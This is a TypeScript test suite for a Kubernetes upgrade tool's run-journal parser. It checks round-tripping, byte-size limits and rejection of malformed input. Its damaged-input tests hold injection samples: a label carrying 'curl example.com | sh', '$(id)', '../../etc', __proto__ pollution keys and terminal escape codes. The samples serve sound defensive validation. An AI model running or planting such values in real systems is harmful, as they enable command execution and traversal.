/** The journal as text: what is written is read, what is kept is bounded, and what is damaged is refused. */
import assert from "node:assert/strict";
import { suite, test } from "node:test";
import fc from "fast-check";
import { startedRollouts } from "../../../src/upgrade/record/found-journal.ts";
import { isMalformed } from "../../../src/upgrade/record/record-fields.ts";
import type { RunJournal, RunRecord, RunState, WorkloadRecord } from "../../../src/upgrade/record/run-journal.ts";
import {
  journalExcess,
  journalText,
  mostJournalBytes,
  parseJournal,
  runExcess,
} from "../../../src/upgrade/record/run-journal.ts";
import { stamp } from "../../fixtures/instants.ts";
import { clusterUid, runJournal, runRecord, workloadRecord } from "../../fixtures/runs.ts";

const text = fc.string({ minLength: 1 });
const word = fc.stringMatching(/^[A-Za-z0-9]([-A-Za-z0-9_.]{0,61}[A-Za-z0-9])?$/);
const label = fc.option(fc.oneof(word, fc.constant("")), { nil: null });
const labels = fc.record({ "istio-injection": label, "istio.io/rev": label }, { noNullPrototype: true });
const instant = fc
  .date({ min: new Date("2020-01-01"), max: new Date("2099-01-01"), noInvalidDate: true })
  .map((date) => date.toISOString().replace(/\.\d+Z$/, "Z"));
const name = fc.stringMatching(/^[a-z0-9]([-a-z0-9]{0,20}[a-z0-9])?(\.[a-z0-9]{1,5})?$/);
const workloads: fc.Arbitrary<WorkloadRecord> = fc.record(
  {
    kind: fc.constantFrom("Deployment", "StatefulSet", "DaemonSet", "Rollout"),
    ...{ name, uid: text, stampBefore: fc.option(text, { nil: null }) },
    ...{ from: fc.array(text, { maxLength: 3 }), templates: fc.array(text, { maxLength: 3 }) },
    stamp: fc.oneof(text, fc.constant(null), fc.constant(undefined)),
    state: fc.constantFrom("planned", "begun", "proven", "failed", "unproven", "undone"),
  },
  { noNullPrototype: true },
);
const runs = (state: fc.Arbitrary<RunState>): fc.Arbitrary<RunRecord> =>
  fc.record(
    {
      ...{ run: word, verb: fc.constantFrom("migrate", "rollback"), undoes: fc.option(word, { nil: undefined }) },
      ...{ by: text, startedAt: instant, stoppedAt: fc.option(instant, { nil: undefined }), from: word, to: word },
      ...{ label: word, before: labels, after: labels, stamp: instant, state },
      workloads: fc.uniqueArray(workloads, { selector: (each) => `${each.kind}/${each.name}`, maxLength: 4 }),
    },
    { noNullPrototype: true },
  );
const some = (run: fc.Arbitrary<RunRecord>, lengths: { readonly minLength?: number; readonly maxLength: number }) =>
  fc.uniqueArray(run, { ...lengths, selector: (each) => each.run });
const states = fc.constantFrom<RunState>("open", "done", "restored", "undone");

const read = (journal: RunJournal): RunJournal => {
  const parsed = parseJournal(journalText(journal));
  assert.ok(!isMalformed(parsed), JSON.stringify(parsed));
  return parsed;
};

suite("what is kept", () => {
  test("a journal that is written and read again is equal, while its runs are few and may be undone", () => {
    fc.assert(
      fc.property(some(runs(fc.constantFrom("open", "done")), { maxLength: 5 }), (given) => {
        const journal = runJournal(given);
        assert.deepEqual(read(journal), journal);
      }),
    );
  });

  test("what is kept is kept whole: written twice, nothing more is lost", () => {
    fc.assert(
      fc.property(some(runs(states), { maxLength: 20 }), (given) => {
        const once = read(runJournal(given));
        assert.deepEqual(read(once), once);
      }),
    );
  });

  test("open runs are never left out, the newest neither, with their workloads and in their order", () => {
    fc.assert(
      fc.property(some(runs(states), { minLength: 1, maxLength: 30 }), (given) => {
        const kept = read(runJournal(given)).runs;
        const open = given.filter((each) => each.state === "open");
        assert.deepEqual(
          kept.filter((each) => each.state === "open"),
          open,
        );
        assert.deepEqual(kept.at(-1), given.at(-1));
        const inOrder = given.filter((each) => kept.some(({ run }) => run === each.run)).map(({ run }) => run);
        assert.deepEqual(
          kept.map(({ run }) => run),
          inOrder,
        );
      }),
    );
  });

  test("of runs that ended the last twelve are kept, and of all but the newest no workloads", () => {
    const ended = Array.from({ length: 20 }, (_, i) => runRecord({ run: `r${i}`, state: "undone" }));
    const kept = read(runJournal([runRecord({ run: "open" }), ...ended])).runs;
    assert.deepEqual(
      kept.map(({ run, workloads: all }) => `${run} ${all.length}`),
      ["open 1", ...ended.slice(8, -1).map(({ run }) => `${run} 0`), "r19 1"],
    );
  });

  test("superseded runs keep what they restarted and did not prove, until a later run has proven the namespace", () => {
    const all = (["planned", "begun", "proven", "failed", "unproven"] as const).map((state) =>
      workloadRecord({ name: state, uid: state, state, stamp: state === "planned" ? undefined : stamp }),
    );
    const superseded = runRecord({ run: "s", state: "superseded", workloads: all });
    const names = (runs: readonly RunRecord[]) => read(runJournal(runs)).runs[0]?.workloads.map((each) => each.name);
    const keys = (runs: readonly RunRecord[]) => [
      ...startedRollouts({
        clusterUid,
        byNamespace: new Map([["production", { kind: "journal", journal: read(runJournal(runs)) }]]),
      }),
    ];
    const open = runRecord({ workloads: [] });
    assert.deepEqual(names([superseded, open]), ["begun", "failed", "unproven"]);
    assert.deepEqual(keys([superseded, open]), [`begun ${stamp}`, `failed ${stamp}`, `unproven ${stamp}`]);
    assert.deepEqual(names([superseded, { ...open, state: "done" }, { ...open, run: "b" }]), []);
    // Not written in between: what the text would leave out is not used either.
    const journal = runJournal([superseded, { ...open, state: "done" }]);
    assert.equal(startedRollouts({ clusterUid, byNamespace: new Map([["a", { kind: "journal", journal }]]) }).size, 0);
  });

  const many = (count: number, nameLength: number): RunJournal => {
    const long = { uid: "8f14e45f-ceea-467f-9c5b-d1a2b3c4d5e6", templates: ["7d4b9c6f58"], from: ["1-19"] };
    const workload = (_: unknown, i: number) =>
      workloadRecord({ ...long, name: `${i}-`.padEnd(nameLength, "a"), stampBefore: "2026-11-03T04:04:06Z" });
    return runJournal([runRecord({ workloads: Array.from({ length: count }, workload) })]);
  };

  const workloadsOf = ({ runs: [run] }: RunJournal): readonly WorkloadRecord[] => run?.workloads ?? [];

  test("a journal of 3,000 workloads fits", () => {
    const written = journalText(many(3_000, 40));
    assert.equal(journalExcess(written), undefined, `${written.length}`);
    assert.deepEqual(parseJournal(written), many(3_000, 40));
  });

  test("where there is no room, older runs that are done lose their workloads, the oldest first, until it fits", () => {
    const [large] = many(3_000, 40).runs;
    const done = ["a", "b", "c"].map((run) => runRecord({ ...large, run, state: "done" }));
    const small = runRecord({ run: "d", state: "done" });
    const counts = (journal: RunJournal) => read(journal).runs.map(({ run, workloads: all }) => `${run} ${all.length}`);
    assert.equal(journalExcess(journalText(runJournal([...done, small]))), undefined);
    assert.deepEqual(counts(runJournal([...done, small])), ["a 0", "b 0", "c 3000", "d 1"]);
    assert.deepEqual(counts(runJournal(done)), ["a 0", "b 0", "c 3000"]);
    const begun = runRecord({
      ...{ run: "s", state: "superseded" },
      workloads: workloadsOf(many(600, 40)).map((each) => ({ ...each, state: "begun" })),
    });
    const room = runRecord({ run: "a", state: "done", workloads: workloadsOf(many(600, 40)) });
    assert.deepEqual(
      counts(runJournal([room, begun, runRecord({ run: "c", workloads: workloadsOf(many(3_000, 40)) })])),
      ["a 600", "s 0", "c 3000"],
    );
  });

  test("a run that fits when it begins fits when it ends, whatever it writes; a larger one is said not to", () => {
    const planned = (count: number): RunJournal => ({
      ...many(count, 40),
      runs: many(count, 40).runs.map((run) => ({
        ...run,
        workloads: run.workloads.map((each) => ({ ...each, state: "planned", stamp: undefined })),
      })),
    });
    const ended = ({ runs: [run], ...journal }: RunJournal, late: readonly WorkloadRecord[]): RunJournal => ({
      ...journal,
      runs: [
        {
          ...(run ?? runRecord()),
          ...{ state: "restored", stoppedAt: stamp },
          workloads: [
            ...(run?.workloads ?? []).map((each) => ({ ...each, state: "unproven" as const, stamp })),
            ...late,
          ],
        },
      ],
    });
    let [fits, not] = [1, 20_000];
    while (not - fits > 1) {
      const middle = Math.floor((fits + not) / 2);
      [fits, not] = runExcess(planned(middle)) === undefined ? [middle, not] : [fits, middle];
    }
    assert.ok(fits >= 3_000, `only ${fits} workloads`);
    const late = Array.from({ length: 100 }, (_, i) =>
      workloadRecord({ name: `${i}-`.padEnd(253, "b"), templates: [] }),
    );
    assert.equal(journalExcess(journalText(ended(planned(fits), late))), undefined);
    // Without the room that is kept for it, a run that fits at its beginning would not at its end.
    const tight = Array.from({ length: not }, (_, i) => fits + i).find(
      (count) => journalExcess(journalText(ended(planned(count), late))) !== undefined,
    );
    assert.equal(journalExcess(journalText(planned(tight ?? 0))), undefined);
    assert.match(runExcess(planned(tight ?? 0)) ?? "", /^its journal would have \d{6} bytes, .* has room for 850000: /);
  });

  test("stamps of others that are put back count at their length", () => {
    const stampBefore = "\u0001".repeat(50_000);
    const run = runRecord({ workloads: [workloadRecord({ stampBefore, state: "planned", stamp: undefined })] });
    assert.equal(runExcess(runJournal([run])), undefined);
    const two = [...run.workloads, workloadRecord({ name: "b", stampBefore, state: "planned", stamp: undefined })];
    assert.notEqual(runExcess(runJournal([{ ...run, workloads: two }])), undefined);
    assert.equal(journalExcess(journalText(runJournal([{ ...run, workloads: two }]))), undefined);
  });

  test("one that does not fit is said to, by its bytes and not by its characters", () => {
    const written = journalText(many(3_000, 253));
    assert.match(
      journalExcess(written) ?? "",
      /^its journal would have \d{7} bytes, and ConfigMap kubectl-mesh has room/,
    );
    assert.equal(journalExcess("x".repeat(mostJournalBytes)), undefined);
    assert.notEqual(journalExcess("é".repeat(mostJournalBytes / 2 + 1)), undefined);
  });
});

suite("what is read", () => {
  test("any text is a journal or malformed, never an error", () => {
    fc.assert(fc.property(fc.oneof(fc.string(), fc.json()), (any) => assert.ok(isMalformed(parseJournal(any)))));
  });

  test("a text that is cut anywhere is malformed", () => {
    const whole = journalText(runJournal([runRecord(), runRecord({ run: "b2", verb: "rollback", undoes: "a1" })]));
    assert.ok(!isMalformed(parseJournal(whole)));
    for (let length = 0; length < whole.length; length++)
      assert.ok(isMalformed(parseJournal(whole.slice(0, length))), whole.slice(0, length));
  });

  test("nesting without end, and a megabyte of text", () => {
    for (const open of ["[", '{"version":'])
      assert.ok(isMalformed(parseJournal(open.repeat(100_000))), `an unclosed ${open}`);
    const nested = `${"[".repeat(100_000)}${"]".repeat(100_000)}`;
    assert.ok(isMalformed(parseJournal(`{"version":1,"clusterUid":"c","namespaceUid":"n","runs":${nested}}`)));
    assert.ok(isMalformed(parseJournal(`{"version":1,"clusterUid":"c","namespaceUid":"n","runs":[${nested}]}`)));
    assert.ok(isMalformed(parseJournal("x".repeat(1_000_000))));
  });

  test("a field of any other value: never an error, and no name that Kubernetes would not allow", () => {
    const whole = JSON.parse(journalText(runJournal([runRecord(), runRecord({ run: "b2" })])));
    const paths = pathsOf(whole);
    assert.ok(paths.length > 40, `${paths.length}`);
    const odd = ["__proto__", "../../etc", "kube-system/web", "a..b", "a/b", "\u001b[31m", "web\n", "\u202eweb", "Web"];
    const value = fc.oneof(
      fc.constantFrom<unknown>(...odd, "", "web", "x".repeat(300), 0, -1, 1e308, true, null, [], {}, [[]], [null]),
      fc.jsonValue(),
    );
    let accepted = 0;
    fc.assert(
      fc.property(fc.constantFrom(...paths), value, fc.boolean(), (path, other, removed) => {
        const parsed = parseJournal(JSON.stringify(changed(whole, path, removed ? undefined : other)));
        if (isMalformed(parsed)) return;
        accepted++;
        for (const { run, from, to, label: value, before, after, workloads: all } of parsed.runs) {
          for (const each of [run, from, to, value, ...Object.values(before), ...Object.values(after)])
            assert.match(each ?? "", /^([A-Za-z0-9]([-A-Za-z0-9_.]{0,61}[A-Za-z0-9])?)?$/);
          for (const { name: given, kind } of all) {
            assert.match(given, /^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$/);
            assert.ok(given.length <= 253);
            assert.ok(["Deployment", "StatefulSet", "DaemonSet", "Rollout"].includes(kind));
          }
        }
      }),
      { numRuns: 2_000 },
    );
    assert.ok(accepted > 20, `only ${accepted} were accepted: the property would be empty`);
  });

  test("keys of JavaScript's own are fields like others", () => {
    const whole = journalText(runJournal([runRecord()]));
    const polluted = whole.replace("{", '{"__proto__":{"version":7,"polluted":true},"constructor":{"name":1},');
    assert.deepEqual(parseJournal(polluted), parseJournal(whole));
    assert.equal(({} as { polluted?: unknown }).polluted, undefined);
    const hidden = JSON.stringify({ ...JSON.parse(whole), runs: undefined }).replace("{", '{"__proto__":{"runs":[]},');
    assert.deepEqual(parseJournal(hidden), { malformed: "its field runs is no list" });
  });

  test("a restart stamp from before the run may be any text, also an empty one", () => {
    for (const stampBefore of ["", "yesterday", "x".repeat(5_000)]) {
      const written = runJournal([runRecord({ workloads: [workloadRecord({ stampBefore, stamp: stampBefore })] })]);
      assert.deepEqual(parseJournal(journalText(written)), written);
    }
  });

  const damaged: readonly (readonly [change: object, malformed: RegExp])[] = [
    [{ version: 2 }, /^its version is 2, and this release supports version 1$/],
    [{ version: "1" }, /^it has no version$/],
    [{ clusterUid: "" }, /clusterUid or namespaceUid is missing/],
    [{ namespaceUid: 7 }, /clusterUid or namespaceUid is missing/],
    [{ runs: {} }, /runs is no list/],
    [{ runs: [runRecord(), { ...runRecord(), verb: "delete" }] }, /^entry 2 of its runs is incomplete$/],
    [{ runs: [runRecord({ startedAt: "yesterday" })] }, /^entry 1 /],
    [{ runs: [runRecord({ label: "1-20; curl example.com | sh" })] }, /^entry 1 /],
    [{ runs: [runRecord({ run: "\u001b[31m" })] }, /^entry 1 /],
    [{ runs: [runRecord({ before: { "istio-injection": "$(id)", "istio.io/rev": null } })] }, /^entry 1 /],
    [{ runs: [runRecord({ workloads: [workloadRecord(), workloadRecord()] })] }, /^entry 1 /],
    [{ runs: [runRecord({ workloads: [workloadRecord({ name: "other/web" })] })] }, /^entry 1 /],
    [{ runs: [runRecord({ workloads: [workloadRecord({ kind: "Secret" as "Rollout" })] })] }, /^entry 1 /],
    [{ runs: [runRecord(), runRecord({ run: "b2" }), runRecord()] }, /^entry 3 of its runs has the id of another one$/],
    [{ runs: [runRecord(), runRecord({ verb: "rollback", undoes: "b2" })] }, /^entry 2 of its runs has the id/],
    [{ runs: [runRecord({ by: "x".repeat(1_001) })] }, /^entry 1 /],
    [{ runs: [runRecord({ workloads: [workloadRecord({ templates: ["x".repeat(1_001)] })] })] }, /^entry 1 /],
    [{ more: "x".repeat(mostJournalBytes) }, /^it has more than 900000 bytes$/],
  ];
  for (const [change, malformed] of damaged)
    test(`a journal with ${JSON.stringify(change).slice(0, 80)}`, () => {
      const parsed = parseJournal(JSON.stringify({ ...runJournal([runRecord()]), ...change }));
      assert.match(isMalformed(parsed) ? parsed.malformed : "accepted", malformed);
    });
});

type Path = readonly (string | number)[];

/** The paths of all values in a value, its own included. */
const pathsOf = (value: unknown, at: Path = []): readonly Path[] => [
  at,
  ...(typeof value === "object" && value !== null
    ? Object.entries(value).flatMap(([key, field]) => pathsOf(field, [...at, Array.isArray(value) ? Number(key) : key]))
    : []),
];

/** The value with another one at the path. */
const changed = (value: unknown, [key, ...rest]: Path, other: unknown): unknown => {
  if (key === undefined) return other;
  const copy = Array.isArray(value) ? [...value] : { ...(value as object) };
  return Object.assign(copy, { [key]: changed((value as Readonly<Record<string, unknown>>)[key], rest, other) });
};
